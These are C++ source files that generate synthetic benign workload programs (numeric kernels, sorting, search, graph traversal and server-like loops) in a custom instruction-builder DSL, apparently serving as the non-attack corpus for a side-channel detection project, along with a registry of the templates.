  b.cmp(reg(Reg::RDI), imm(n));
  b.jl("i_loop");
  b.hlt();
  return b.build();
}

isa::Program stream_triad(Rng& rng) {
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(256, 1024));
  const std::int64_t scale_k = static_cast<std::int64_t>(rng.uniform(2, 9));
  const std::int64_t a_base = rand_base(rng, 0x8600'0000);
  const std::int64_t b_base = rand_base(rng, 0x8800'0000);
  const std::int64_t c_base = rand_base(rng, 0x8A00'0000);

  ProgramBuilder b("benign-stream");
  b.data_region(static_cast<std::uint64_t>(b_base),
                static_cast<std::uint64_t>(len * 8), 5);
  b.data_region(static_cast<std::uint64_t>(c_base),
                static_cast<std::uint64_t>(len * 8), 3);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  const std::int64_t passes = static_cast<std::int64_t>(rng.uniform(2, 5));
  b.mov(reg(Reg::RCX), imm(passes));
  b.label("pass_loop");
  b.mov(reg(Reg::RDI), imm(0));
  b.label("elem_loop");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, b_base));
  b.mov(reg(Reg::RBX), mem_idx(Reg::R15, Reg::RDI, 8, c_base));
  b.imul(reg(Reg::RBX), imm(scale_k));
  b.add(reg(Reg::RAX), reg(Reg::RBX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, a_base), reg(Reg::RAX));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(len));
  b.jl("elem_loop");
  b.dec(reg(Reg::RCX));
  b.jne("pass_loop");
  b.hlt();
  return b.build();
}

isa::Program pointer_chase(Rng& rng) {
  const std::size_t nodes = static_cast<std::size_t>(rng.uniform(128, 512));
  const std::int64_t base = rand_base(rng, 0x8C00'0000);
  // Build a random cycle: next[perm[i]] = perm[i+1].
  std::vector<std::size_t> perm(nodes);
  for (std::size_t i = 0; i < nodes; ++i) perm[i] = i;
  Rng local = rng.split();
  local.shuffle(perm);

  ProgramBuilder b("benign-ptrchase");
  for (std::size_t i = 0; i < nodes; ++i) {
    const std::size_t from = perm[i];
    const std::size_t to = perm[(i + 1) % nodes];
    // Node stride of 64 bytes so each node is its own cache line.
    b.data_word(static_cast<std::uint64_t>(base) + from * 64,
                static_cast<std::uint64_t>(base) + to * 64);
  }

  const std::int64_t hops = static_cast<std::int64_t>(rng.uniform(
      nodes * 2, nodes * 4));
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.lea(reg(Reg::RAX), mem_abs(base));
  b.mov(reg(Reg::RCX), imm(hops));
  b.label("chase");
  b.mov(reg(Reg::RAX), mem(Reg::RAX));
  b.dec(reg(Reg::RCX));
  b.jne("chase");
  b.mov(mem_abs(base - 0x1000), reg(Reg::RAX));
  b.hlt();
  return b.build();
}

isa::Program stencil(Rng& rng) {
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(200, 800));
  const std::int64_t sweeps = static_cast<std::int64_t>(rng.uniform(2, 6));
  const std::int64_t src = rand_base(rng, 0x8E00'0000);
  const std::int64_t dst = rand_base(rng, 0x9000'0000);

  ProgramBuilder b("benign-stencil");
  b.data_region(static_cast<std::uint64_t>(src),
                static_cast<std::uint64_t>(len * 8), 7);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(sweeps));
  b.label("sweep");
  b.mov(reg(Reg::RDI), imm(1));
  b.label("cell");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, src - 8));
  b.add(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, src));
  b.add(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, src + 8));
  b.shr(reg(Reg::RAX), imm(1));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, dst), reg(Reg::RAX));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(len - 1));
  b.jl("cell");
  b.dec(reg(Reg::RCX));
  b.jne("sweep");
  b.hlt();
  return b.build();
}

isa::Program histogram(Rng& rng) {
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(400, 1200));
  const std::int64_t bins = 1LL << rng.uniform(4, 7);  // 16..64 bins
  const std::int64_t data = rand_base(rng, 0x9200'0000);
  const std::int64_t hist = rand_base(rng, 0x9400'0000);

  ProgramBuilder b("benign-histogram");
  // Pseudo-random input values.
  Rng local = rng.split();
  for (std::int64_t i = 0; i < len; ++i)
    b.data_word(static_cast<std::uint64_t>(data + i * 8), local.next());

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RDI), imm(0));
  b.label("scan");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, data));
  b.and_(reg(Reg::RAX), imm(bins - 1));
  b.mov(reg(Reg::RBX), mem_idx(Reg::R15, Reg::RAX, 8, hist));
  b.inc(reg(Reg::RBX));
  b.mov(mem_idx(Reg::R15, Reg::RAX, 8, hist), reg(Reg::RBX));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(len));
  b.jl("scan");
  b.hlt();
  return b.build();
}

}  // namespace scag::benign
