// Server-application-style workloads: request loops with hash-table probes
// (SQLite-ish), buffer parsing with checksums (thttpd-ish), and LZ-style
// window copies (gzip-ish) — the paper's "Server Applications" category.
#include "benign/registry.h"

#include "isa/builder.h"

namespace scag::benign {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

std::int64_t rand_base(Rng& rng, std::int64_t region) {
  // Line-granular placement: samples differ in which cache sets their data
  // occupies, and distinct regions do not systematically alias.
  return region + static_cast<std::int64_t>(rng.below(0x100000) & ~0x3fULL);
}

}  // namespace

isa::Program hashtable_server(Rng& rng) {
  const std::int64_t table = rand_base(rng, 0xAA00'0000);
  const std::int64_t buckets = 1LL << rng.uniform(8, 11);  // 256..2048
  const std::int64_t requests =
      static_cast<std::int64_t>(rng.uniform(200, 800));

  ProgramBuilder b("benign-htserver");
  // Pre-populated table: value = hash of bucket index.
  Rng local = rng.split();
  for (std::int64_t i = 0; i < buckets; ++i)
    b.data_word(static_cast<std::uint64_t>(table + i * 8),
                local.next() | 1);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(requests));
  b.mov(reg(Reg::R8), imm(static_cast<std::int64_t>(rng.next() | 1)));
  b.mov(reg(Reg::R10), imm(0));  // response accumulator
  b.label("request_loop");
  // key = splitmix-ish step
  b.imul(reg(Reg::R8), imm(6364136223846793005LL));
  b.add(reg(Reg::R8), imm(1442695040888963407LL));
  b.mov(reg(Reg::RBX), reg(Reg::R8));
  b.shr(reg(Reg::RBX), imm(17));
  b.and_(reg(Reg::RBX), imm(buckets - 1));
  // Probe with linear probing (up to 3 probes).
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RBX, 8, table));
  b.test(reg(Reg::RAX), reg(Reg::RAX));
  b.jne("hit");
  b.inc(reg(Reg::RBX));
  b.and_(reg(Reg::RBX), imm(buckets - 1));
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RBX, 8, table));
  b.label("hit");
  b.add(reg(Reg::R10), reg(Reg::RAX));
  // Occasionally update the bucket ("write query").
  b.mov(reg(Reg::RDX), reg(Reg::R8));
  b.and_(reg(Reg::RDX), imm(7));
  b.test(reg(Reg::RDX), reg(Reg::RDX));
  b.jne("no_write");
  b.mov(mem_idx(Reg::R15, Reg::RBX, 8, table), reg(Reg::R10));
  b.label("no_write");
  b.dec(reg(Reg::RCX));
  b.jne("request_loop");
  b.mov(mem_abs(table - 0x1000), reg(Reg::R10));
  b.hlt();
  return b.build();
}

isa::Program parser_checksum(Rng& rng) {
  const std::int64_t buf = rand_base(rng, 0xAC00'0000);
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(300, 1200));
  const std::int64_t msgs = static_cast<std::int64_t>(rng.uniform(2, 6));

  ProgramBuilder b("benign-parser");
  Rng local = rng.split();
  for (std::int64_t i = 0; i < len; ++i)
    b.data_word(static_cast<std::uint64_t>(buf + i * 8),
                local.next() & 0x7f7f7f7f);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(msgs));
  b.label("msg_loop");
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::R8), imm(0));   // checksum
  b.mov(reg(Reg::R9), imm(0));   // token count
  b.label("scan");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, buf));
  // "Delimiter" check: low byte == 0x20.
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.and_(reg(Reg::RBX), imm(255));
  b.cmp(reg(Reg::RBX), imm(0x20));
  b.jne("not_delim");
  b.inc(reg(Reg::R9));
  b.label("not_delim");
  // Rolling checksum.
  b.imul(reg(Reg::R8), imm(31));
  b.add(reg(Reg::R8), reg(Reg::RAX));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(len));
  b.jl("scan");
  // Write response header.
  b.mov(mem_abs(buf - 0x1000), reg(Reg::R8));
  b.mov(mem_abs(buf - 0x1000 + 8), reg(Reg::R9));
  b.dec(reg(Reg::RCX));
  b.jne("msg_loop");
  b.hlt();
  return b.build();
}

isa::Program lz_window_copy(Rng& rng) {
  const std::int64_t src = rand_base(rng, 0xAE00'0000);
  const std::int64_t dst = rand_base(rng, 0xB000'0000);
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(200, 600));
  const std::int64_t copies = static_cast<std::int64_t>(rng.uniform(30, 120));

  ProgramBuilder b("benign-lzcopy");
  Rng local = rng.split();
  for (std::int64_t i = 0; i < len; ++i)
    b.data_word(static_cast<std::uint64_t>(src + i * 8), local.next());

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(copies));
  b.mov(reg(Reg::R8), imm(static_cast<std::int64_t>(rng.next() | 1)));
  b.mov(reg(Reg::R12), imm(0));  // output cursor
  b.label("copy_loop");
  // Pick (offset, length) pseudo-randomly like LZ back-references.
  b.imul(reg(Reg::R8), imm(6364136223846793005LL));
  b.add(reg(Reg::R8), imm(99991));
  b.mov(reg(Reg::RDI), reg(Reg::R8));
  b.shr(reg(Reg::RDI), imm(13));
  b.and_(reg(Reg::RDI), imm(len / 2 - 1));  // source offset
  b.mov(reg(Reg::RDX), reg(Reg::R8));
  b.shr(reg(Reg::RDX), imm(41));
  b.and_(reg(Reg::RDX), imm(15));
  b.inc(reg(Reg::RDX));  // run length 1..16
  b.label("run_loop");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, src));
  b.mov(mem_idx(Reg::R15, Reg::R12, 8, dst), reg(Reg::RAX));
  b.inc(reg(Reg::RDI));
  b.inc(reg(Reg::R12));
  b.and_(reg(Reg::R12), imm(2047));  // wrap the output window
  b.dec(reg(Reg::RDX));
  b.jne("run_loop");
  b.dec(reg(Reg::RCX));
  b.jne("copy_loop");
  b.hlt();
  return b.build();
}

}  // namespace scag::benign
