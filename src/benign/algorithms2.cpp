// Additional algorithm kernels: iterative quicksort (stack-array driven,
// data-dependent branching) and breadth-first search over a random graph
// (pointer-indirect, queue-driven) — two more realistic memory-access
// shapes for the benign corpus.
#include "benign/registry.h"

#include "isa/builder.h"

namespace scag::benign {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

std::int64_t rand_base(Rng& rng, std::int64_t region) {
  return region + static_cast<std::int64_t>(rng.below(0x100000) & ~0x3fULL);
}

}  // namespace

isa::Program quicksort(Rng& rng) {
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(48, 160));
  const std::int64_t data = rand_base(rng, 0xBC00'0000);
  const std::int64_t stack = rand_base(rng, 0xBE00'0000);

  ProgramBuilder b("benign-quicksort");
  Rng local = rng.split();
  for (std::int64_t i = 0; i < len; ++i)
    b.data_word(static_cast<std::uint64_t>(data + i * 8),
                local.next() & 0xffff);

  // Iterative quicksort with an explicit (lo, hi) range stack:
  //   r8 = stack top (element count), ranges stored as two words each.
  //   Hoare-lite partition: pivot = a[hi]; scan i from lo..hi-1 moving
  //   smaller elements forward (Lomuto).
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  // push initial range (0, len-1)
  b.mov(reg(Reg::R8), imm(1));
  b.mov(mem_abs(stack), imm(0));
  b.mov(mem_abs(stack + 8), imm(len - 1));

  b.label("work_loop");
  b.test(reg(Reg::R8), reg(Reg::R8));
  b.je("done");
  b.dec(reg(Reg::R8));
  // pop (lo, hi)
  b.mov(reg(Reg::RAX), reg(Reg::R8));
  b.shl(reg(Reg::RAX), imm(4));  // * 16 bytes per range
  b.mov(reg(Reg::RSI), mem(Reg::RAX, stack));       // lo
  b.mov(reg(Reg::RDI), mem(Reg::RAX, stack + 8));   // hi
  b.cmp(reg(Reg::RSI), reg(Reg::RDI));
  b.jge("work_loop");  // range of size <= 1

  // partition: pivot = a[hi]; store index in r9.
  b.mov(reg(Reg::R10), mem_idx(Reg::R15, Reg::RDI, 8, data));  // pivot
  b.mov(reg(Reg::R9), reg(Reg::RSI));  // store index
  b.mov(reg(Reg::RCX), reg(Reg::RSI)); // scan index
  b.label("part_loop");
  b.cmp(reg(Reg::RCX), reg(Reg::RDI));
  b.jge("part_done");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RCX, 8, data));
  b.cmp(reg(Reg::RAX), reg(Reg::R10));
  b.jge("part_next");
  // swap a[rcx] <-> a[r9]
  b.mov(reg(Reg::RBX), mem_idx(Reg::R15, Reg::R9, 8, data));
  b.mov(mem_idx(Reg::R15, Reg::R9, 8, data), reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RCX, 8, data), reg(Reg::RBX));
  b.inc(reg(Reg::R9));
  b.label("part_next");
  b.inc(reg(Reg::RCX));
  b.jmp("part_loop");
  b.label("part_done");
  // swap pivot into place: a[hi] <-> a[r9]
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::R9, 8, data));
  b.mov(reg(Reg::RBX), mem_idx(Reg::R15, Reg::RDI, 8, data));
  b.mov(mem_idx(Reg::R15, Reg::R9, 8, data), reg(Reg::RBX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, data), reg(Reg::RAX));

  // push (lo, p-1) and (p+1, hi)
  b.mov(reg(Reg::RAX), reg(Reg::R8));
  b.shl(reg(Reg::RAX), imm(4));
  b.mov(mem(Reg::RAX, stack), reg(Reg::RSI));
  b.mov(reg(Reg::RBX), reg(Reg::R9));
  b.dec(reg(Reg::RBX));
  b.mov(mem(Reg::RAX, stack + 8), reg(Reg::RBX));
  b.inc(reg(Reg::R8));
  b.mov(reg(Reg::RAX), reg(Reg::R8));
  b.shl(reg(Reg::RAX), imm(4));
  b.mov(reg(Reg::RBX), reg(Reg::R9));
  b.inc(reg(Reg::RBX));
  b.mov(mem(Reg::RAX, stack), reg(Reg::RBX));
  b.mov(mem(Reg::RAX, stack + 8), reg(Reg::RDI));
  b.inc(reg(Reg::R8));
  b.jmp("work_loop");

  b.label("done");
  // Checksum the sorted array so the work is observable.
  b.mov(reg(Reg::RCX), imm(0));
  b.mov(reg(Reg::R11), imm(0));
  b.label("sum");
  b.add(reg(Reg::R11), mem_idx(Reg::R15, Reg::RCX, 8, data));
  b.inc(reg(Reg::RCX));
  b.cmp(reg(Reg::RCX), imm(len));
  b.jl("sum");
  b.mov(mem_abs(data - 0x1000), reg(Reg::R11));
  b.hlt();
  return b.build();
}

isa::Program graph_bfs(Rng& rng) {
  const std::int64_t nodes = static_cast<std::int64_t>(rng.uniform(48, 128));
  const std::int64_t degree = 3;  // fixed out-degree adjacency table
  const std::int64_t adj = rand_base(rng, 0xC000'0000);
  const std::int64_t visited = rand_base(rng, 0xC200'0000);
  const std::int64_t queue = rand_base(rng, 0xC400'0000);

  ProgramBuilder b("benign-bfs");
  Rng local = rng.split();
  for (std::int64_t v = 0; v < nodes; ++v)
    for (std::int64_t e = 0; e < degree; ++e)
      b.data_word(static_cast<std::uint64_t>(adj + (v * degree + e) * 8),
                  local.below(static_cast<std::uint64_t>(nodes)));

  // BFS from node 0 with an array queue: r8 = head, r9 = tail.
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::R8), imm(0));
  b.mov(reg(Reg::R9), imm(1));
  b.mov(mem_abs(queue), imm(0));            // enqueue node 0
  b.mov(mem_abs(visited), imm(1));          // visited[0] = 1
  b.mov(reg(Reg::R12), imm(0));             // reachable count

  b.label("bfs_loop");
  b.cmp(reg(Reg::R8), reg(Reg::R9));
  b.jge("bfs_done");
  b.mov(reg(Reg::RSI), mem_idx(Reg::R15, Reg::R8, 8, queue));  // dequeue
  b.inc(reg(Reg::R8));
  b.inc(reg(Reg::R12));
  // Visit the fixed-degree neighbor list.
  b.mov(reg(Reg::RCX), imm(0));
  b.label("edge_loop");
  b.mov(reg(Reg::RAX), reg(Reg::RSI));
  b.imul(reg(Reg::RAX), imm(degree));
  b.add(reg(Reg::RAX), reg(Reg::RCX));
  b.mov(reg(Reg::RDI), mem_idx(Reg::R15, Reg::RAX, 8, adj));  // neighbor
  b.mov(reg(Reg::RBX), mem_idx(Reg::R15, Reg::RDI, 8, visited));
  b.test(reg(Reg::RBX), reg(Reg::RBX));
  b.jne("edge_next");
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, visited), imm(1));
  b.mov(mem_idx(Reg::R15, Reg::R9, 8, queue), reg(Reg::RDI));  // enqueue
  b.inc(reg(Reg::R9));
  b.label("edge_next");
  b.inc(reg(Reg::RCX));
  b.cmp(reg(Reg::RCX), imm(degree));
  b.jl("edge_loop");
  b.jmp("bfs_loop");

  b.label("bfs_done");
  b.mov(mem_abs(adj - 0x1000), reg(Reg::R12));
  b.hlt();
  return b.build();
}

}  // namespace scag::benign
