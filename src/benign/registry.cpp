#include "benign/registry.h"

namespace scag::benign {

const std::vector<BenignSpec>& all_benign_templates() {
  static const std::vector<BenignSpec> templates = {
      {"matmul", "SPEC2006", matmul},
      {"stream-triad", "SPEC2006", stream_triad},
      {"pointer-chase", "SPEC2006", pointer_chase},
      {"stencil", "SPEC2006", stencil},
      {"histogram", "SPEC2006", histogram},
      {"two-sum", "LeetCode", two_sum},
      {"binary-search", "LeetCode", binary_search},
      {"fibonacci-dp", "LeetCode", fibonacci_dp},
      {"max-subarray", "LeetCode", max_subarray},
      {"sieve", "LeetCode", sieve},
      {"reverse-array", "LeetCode", reverse_array},
      {"quicksort", "LeetCode", quicksort},
      {"graph-bfs", "LeetCode", graph_bfs},
      {"aes-ttables", "Encryption", aes_ttables},
      {"rsa-modexp", "Encryption", rsa_modexp},
      {"stream-cipher", "Encryption", stream_cipher},
      {"hashtable-server", "Server", hashtable_server},
      {"parser-checksum", "Server", parser_checksum},
      {"lz-window-copy", "Server", lz_window_copy},
      {"timed-kernel", "SPEC2006", timed_kernel},
      {"flush-writeback", "Server", flush_writeback},
      {"timed-lookup", "LeetCode", timed_lookup},
  };
  return templates;
}

isa::Program generate_benign(std::size_t index, Rng& rng) {
  const auto& templates = all_benign_templates();
  const BenignSpec& spec = templates[index % templates.size()];
  isa::Program p = spec.build(rng);
  p.set_name(spec.name + "-" + std::to_string(index));
  return p;
}

}  // namespace scag::benign
