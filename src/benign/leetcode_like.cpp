// LeetCode-style algorithm kernels: classic interview problems over arrays,
// standing in for the paper's 230-solution LeetCode corpus.
#include "benign/registry.h"

#include "isa/builder.h"

namespace scag::benign {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

std::int64_t rand_base(Rng& rng, std::int64_t region) {
  // Line-granular placement: samples differ in which cache sets their data
  // occupies, and distinct regions do not systematically alias.
  return region + static_cast<std::int64_t>(rng.below(0x100000) & ~0x3fULL);
}

/// Seeds `len` pseudo-random words at `base`.
void seed_array(ProgramBuilder& b, Rng& rng, std::int64_t base,
                std::int64_t len, std::uint64_t mask = ~0ULL) {
  Rng local = rng.split();
  for (std::int64_t i = 0; i < len; ++i)
    b.data_word(static_cast<std::uint64_t>(base + i * 8),
                local.next() & mask);
}

}  // namespace

isa::Program two_sum(Rng& rng) {
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(40, 120));
  const std::int64_t base = rand_base(rng, 0x9600'0000);
  const std::int64_t out = base - 0x1000;

  ProgramBuilder b("benign-twosum");
  seed_array(b, rng, base, len, 0xffff);
  const std::int64_t target = static_cast<std::int64_t>(rng.uniform(10, 60000));

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RDI), imm(0));  // i
  b.label("i_loop");
  b.mov(reg(Reg::RSI), reg(Reg::RDI));
  b.inc(reg(Reg::RSI));  // j = i + 1
  b.label("j_loop");
  b.cmp(reg(Reg::RSI), imm(len));
  b.jge("i_next");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, base));
  b.add(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RSI, 8, base));
  b.cmp(reg(Reg::RAX), imm(target));
  b.jne("j_next");
  b.mov(mem_abs(out), reg(Reg::RDI));
  b.mov(mem_abs(out + 8), reg(Reg::RSI));
  b.label("j_next");
  b.inc(reg(Reg::RSI));
  b.jmp("j_loop");
  b.label("i_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(len));
  b.jl("i_loop");
  b.hlt();
  return b.build();
}

isa::Program binary_search(Rng& rng) {
  const std::int64_t len = 1LL << rng.uniform(7, 10);  // 128..1024, sorted
  const std::int64_t base = rand_base(rng, 0x9800'0000);
  const std::int64_t queries = static_cast<std::int64_t>(rng.uniform(50, 200));

  ProgramBuilder b("benign-bsearch");
  // Sorted array: value = 3*i + small jitterless offset.
  for (std::int64_t i = 0; i < len; ++i)
    b.data_word(static_cast<std::uint64_t>(base + i * 8),
                static_cast<std::uint64_t>(3 * i));

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(queries));
  b.mov(reg(Reg::R10), imm(static_cast<std::int64_t>(rng.uniform(1, 997))));
  b.label("query_loop");
  // key = (r10 = r10*2862933555777941757 + 3037) % (3*len)
  b.imul(reg(Reg::R10), imm(6364136223846793005LL));
  b.add(reg(Reg::R10), imm(3037));
  b.mov(reg(Reg::RDX), reg(Reg::R10));
  b.shr(reg(Reg::RDX), imm(33));
  b.and_(reg(Reg::RDX), imm(4 * len - 1));  // key in [0, 4len)
  // lo = 0, hi = len
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RSI), imm(len));
  b.label("bs_loop");
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.add(reg(Reg::RAX), reg(Reg::RSI));
  b.shr(reg(Reg::RAX), imm(1));  // mid
  b.cmp(reg(Reg::RAX), reg(Reg::RDI));
  b.je("bs_done");
  b.mov(reg(Reg::RBX), mem_idx(Reg::R15, Reg::RAX, 8, base));
  b.cmp(reg(Reg::RBX), reg(Reg::RDX));
  b.jg("go_left");
  b.mov(reg(Reg::RDI), reg(Reg::RAX));
  b.jmp("bs_loop");
  b.label("go_left");
  b.mov(reg(Reg::RSI), reg(Reg::RAX));
  b.jmp("bs_loop");
  b.label("bs_done");
  b.dec(reg(Reg::RCX));
  b.jne("query_loop");
  b.mov(mem_abs(base - 0x1000), reg(Reg::RDI));
  b.hlt();
  return b.build();
}

isa::Program fibonacci_dp(Rng& rng) {
  const std::int64_t n = static_cast<std::int64_t>(rng.uniform(300, 2000));
  const std::int64_t base = rand_base(rng, 0x9A00'0000);

  ProgramBuilder b("benign-fib");
  b.data_word(static_cast<std::uint64_t>(base), 0);
  b.data_word(static_cast<std::uint64_t>(base + 8), 1);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RDI), imm(2));
  b.label("fib_loop");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, base - 8));
  b.add(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, base - 16));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, base), reg(Reg::RAX));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(n));
  b.jl("fib_loop");
  b.hlt();
  return b.build();
}

isa::Program max_subarray(Rng& rng) {
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(300, 1500));
  const std::int64_t base = rand_base(rng, 0x9C00'0000);

  ProgramBuilder b("benign-kadane");
  Rng local = rng.split();
  for (std::int64_t i = 0; i < len; ++i) {
    // Signed values in [-128, 127].
    const std::int64_t v = static_cast<std::int64_t>(local.below(256)) - 128;
    b.data_word(static_cast<std::uint64_t>(base + i * 8),
                static_cast<std::uint64_t>(v));
  }

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::R8), imm(0));   // current
  b.mov(reg(Reg::R9), imm(0));   // best
  b.label("scan");
  b.add(reg(Reg::R8), mem_idx(Reg::R15, Reg::RDI, 8, base));
  b.cmp(reg(Reg::R8), imm(0));
  b.jge("keep");
  b.mov(reg(Reg::R8), imm(0));
  b.label("keep");
  b.cmp(reg(Reg::R8), reg(Reg::R9));
  b.jle("no_update");
  b.mov(reg(Reg::R9), reg(Reg::R8));
  b.label("no_update");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(len));
  b.jl("scan");
  b.mov(mem_abs(base - 0x1000), reg(Reg::R9));
  b.hlt();
  return b.build();
}

isa::Program sieve(Rng& rng) {
  const std::int64_t n = static_cast<std::int64_t>(rng.uniform(500, 3000));
  const std::int64_t base = rand_base(rng, 0x9E00'0000);

  ProgramBuilder b("benign-sieve");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  // Mark composites: for p in 2..sqrt(n): for m = p*p step p: sieve[m] = 1.
  b.mov(reg(Reg::RDI), imm(2));  // p
  b.label("p_loop");
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), reg(Reg::RDI));
  b.cmp(reg(Reg::RAX), imm(n));
  b.jge("done");
  b.mov(reg(Reg::RSI), reg(Reg::RAX));  // m = p*p
  b.label("mark");
  b.mov(mem_idx(Reg::R15, Reg::RSI, 8, base), reg(Reg::RDI));
  b.add(reg(Reg::RSI), reg(Reg::RDI));
  b.cmp(reg(Reg::RSI), imm(n));
  b.jl("mark");
  b.inc(reg(Reg::RDI));
  b.jmp("p_loop");
  b.label("done");
  // Count primes.
  b.mov(reg(Reg::RDI), imm(2));
  b.mov(reg(Reg::RCX), imm(0));
  b.label("count");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, base));
  b.test(reg(Reg::RAX), reg(Reg::RAX));
  b.jne("not_prime");
  b.inc(reg(Reg::RCX));
  b.label("not_prime");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(n));
  b.jl("count");
  b.mov(mem_abs(base - 0x1000), reg(Reg::RCX));
  b.hlt();
  return b.build();
}

isa::Program reverse_array(Rng& rng) {
  const std::int64_t len = static_cast<std::int64_t>(rng.uniform(200, 1000));
  const std::int64_t base = rand_base(rng, 0xA000'0000);
  const std::int64_t reps = static_cast<std::int64_t>(rng.uniform(2, 6));

  ProgramBuilder b("benign-reverse");
  seed_array(b, rng, base, len);

  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(reps));
  b.label("rep");
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RSI), imm(len - 1));
  b.label("swap_loop");
  b.cmp(reg(Reg::RDI), reg(Reg::RSI));
  b.jge("rep_next");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, base));
  b.mov(reg(Reg::RBX), mem_idx(Reg::R15, Reg::RSI, 8, base));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, base), reg(Reg::RBX));
  b.mov(mem_idx(Reg::R15, Reg::RSI, 8, base), reg(Reg::RAX));
  b.inc(reg(Reg::RDI));
  b.dec(reg(Reg::RSI));
  b.jmp("swap_loop");
  b.label("rep_next");
  b.dec(reg(Reg::RCX));
  b.jne("rep");
  b.hlt();
  return b.build();
}

}  // namespace scag::benign
